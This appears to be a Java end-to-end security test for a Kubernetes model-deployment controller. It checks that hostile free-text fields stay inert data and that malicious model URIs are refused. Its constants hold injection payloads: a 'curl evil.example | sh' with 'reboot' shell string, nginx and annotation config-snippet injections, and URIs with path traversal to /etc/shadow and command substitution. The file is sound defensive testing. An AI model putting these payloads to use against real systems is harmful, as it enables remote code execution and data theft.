package io.primehub.phdeploy.testkit.e2e;

import static io.primehub.phdeploy.testkit.assertions.PhDeployAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.networking.v1.HTTPIngressPath;
import io.fabric8.kubernetes.api.model.networking.v1.Ingress;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.primehub.phdeploy.core.model.FailureReason;
import io.primehub.phdeploy.core.model.ImmutablePhDeploymentSpec;
import io.primehub.phdeploy.core.model.ImmutablePredictor;
import io.primehub.phdeploy.core.model.PhDeploymentSpec;
import io.primehub.phdeploy.core.model.Phase;
import io.primehub.phdeploy.core.naming.OwnedNames;
import io.primehub.phdeploy.core.validation.InvalidSpecException;
import io.primehub.phdeploy.core.validation.Violation;
import io.primehub.phdeploy.k8s.auth.ClientCredentials;
import io.primehub.phdeploy.k8s.client.PhDeployments;
import io.primehub.phdeploy.k8s.desired.IngressAnnotations;
import io.primehub.phdeploy.k8s.resource.PhDeployment;
import io.primehub.phdeploy.testkit.gateway.ModelRegistry;
import io.primehub.phdeploy.testkit.gateway.PredictionGateway;
import io.primehub.phdeploy.testkit.junit.PhDeployTest;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile values through the whole path: the SDK, the API server, the controller and the objects
 * it writes. What the validator lets through stays data; what it refuses, the controller refuses
 * too when a client skipped the SDK, with the field to fix rather than an endless retry.
 */
@PhDeployTest
class HostileSpecTest {

  private static final String SHELL = "$(curl -s http://evil.example | sh) `reboot` '\"; #";
  private static final String NGINX =
      "\"; } location / { proxy_pass http://evil.example; } # 模型 \u202E";
  private static final String LINES =
      "retrained\nnginx.ingress.kubernetes.io/configuration-snippet: return 200 evil;\n";

  @Test
  void hostileFreeTextDeploysAndStaysData(
      PhDeployments deployments, ModelRegistry models, PredictionGateway gateway,
      KubernetesClient client) {
    models.serve(Journey.IMAGE, Journey.summing());
    PhDeploymentSpec fixture = Journey.fixture().getSpec();
    PhDeploymentSpec hostile = ImmutablePhDeploymentSpec.copyOf(fixture)
        .withDisplayName(SHELL)
        .withUserName(NGINX)
        .withDescription(LINES)
        .withEnv(new EnvVar("GREETING", SHELL + LINES, null))
        .withPredictors(ImmutablePredictor.copyOf(fixture.predictor())
            .withMetadata(Map.of("NOTES", NGINX + LINES)));

    deployments.create(Journey.NAME, hostile);
    deployments.makePrivate(Journey.NAME);
    ClientCredentials scorer = deployments.addClient(Journey.NAME, "scorer");
    deployments.update(Journey.NAME, spec -> spec, LINES + SHELL);
    deployments.awaitPhase(Journey.NAME, Phase.DEPLOYED, Journey.WAIT);
    Journey.awaitRoute(gateway, "private and ready",
        route -> route.privateEndpoint().isPresent() && route.readyPods().size() == 2);

    assertThat(Journey.predict(gateway.predictionUrl(Journey.NAME), Journey.ROWS, scorer)
        .statusCode()).isEqualTo(200);
    Ingress ingress = client.network().v1().ingresses().inNamespace(Journey.NAMESPACE)
        .withName(OwnedNames.of(Journey.NAME)).get();
    assertThat(ingress.getMetadata().getAnnotations()).allSatisfy((key, value) -> {
      assertThat(key).doesNotContain("snippet");
      assertThat(value).doesNotContain("evil");
    });
    assertThat(ingress.getMetadata().getAnnotations())
        .containsEntry(IngressAnnotations.AUTH_SECRET, OwnedNames.of(Journey.NAME));
    assertThat(ingress.getSpec().getRules().get(0).getHttp().getPaths())
        .extracting(HTTPIngressPath::getPath)
        .containsExactly("/deployment/" + Journey.NAME + "/(.+)");
    Deployment deployment = Verdicts.deploymentOf(client, Journey.NAME);
    PodSpec pod = deployment.getSpec().getTemplate().getSpec();
    assertThat(pod.getContainers()).allSatisfy(container -> {
      assertThat(container.getCommand()).as(container.getName()).isEmpty();
      assertThat(container.getArgs()).as(container.getName()).isEmpty();
    });
    assertThat(pod.getContainers()).filteredOn(container -> container.getName().equals("model"))
        .flatExtracting(Container::getEnv)
        .contains(new EnvVar("GREETING", SHELL + LINES, null));
    assertThat(deployment.getSpec().getTemplate().getMetadata().getAnnotations())
        .allSatisfy((key, value) -> assertThat(value).doesNotContain("evil"));
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "pvc://models/../../etc/shadow", "nfs://files.example/export/../..", "phfs://../../root",
      "pvc:///models/spam", "gs://bucket/$(id)", "s3://bucket/`id`", "https://h/m;reboot"})
  void aModelUriTheSdkRefusesFailsAsInvalidSpecWhenWrittenAnotherWay(
      String uri, PhDeployments deployments, KubernetesClient client) {
    PhDeploymentSpec fixture = Journey.fixture().getSpec();
    PhDeploymentSpec hostile = ImmutablePhDeploymentSpec.copyOf(fixture).withPredictors(
        ImmutablePredictor.copyOf(fixture.predictor()).withModelURI(uri));

    assertThatExceptionOfType(InvalidSpecException.class)
        .isThrownBy(() -> deployments.create(Journey.NAME, hostile))
        .satisfies(refused -> assertThat(refused.violations()).extracting(Violation::path)
            .containsExactly("spec.predictors[0].modelURI"));

    PhDeployment written = Journey.fixture();
    written.setSpec(hostile);
    client.resources(PhDeployment.class).inNamespace(Journey.NAMESPACE).resource(written).create();

    assertThat(Verdicts.await(client, Journey.NAME, Phase.FAILED))
        .isFailedWith(FailureReason.INVALID_SPEC)
        .hasMessageContaining("spec.predictors[0].modelURI");
    assertThat(Verdicts.deploymentOf(client, Journey.NAME)).as("nothing run for it").isNull();
  }
}
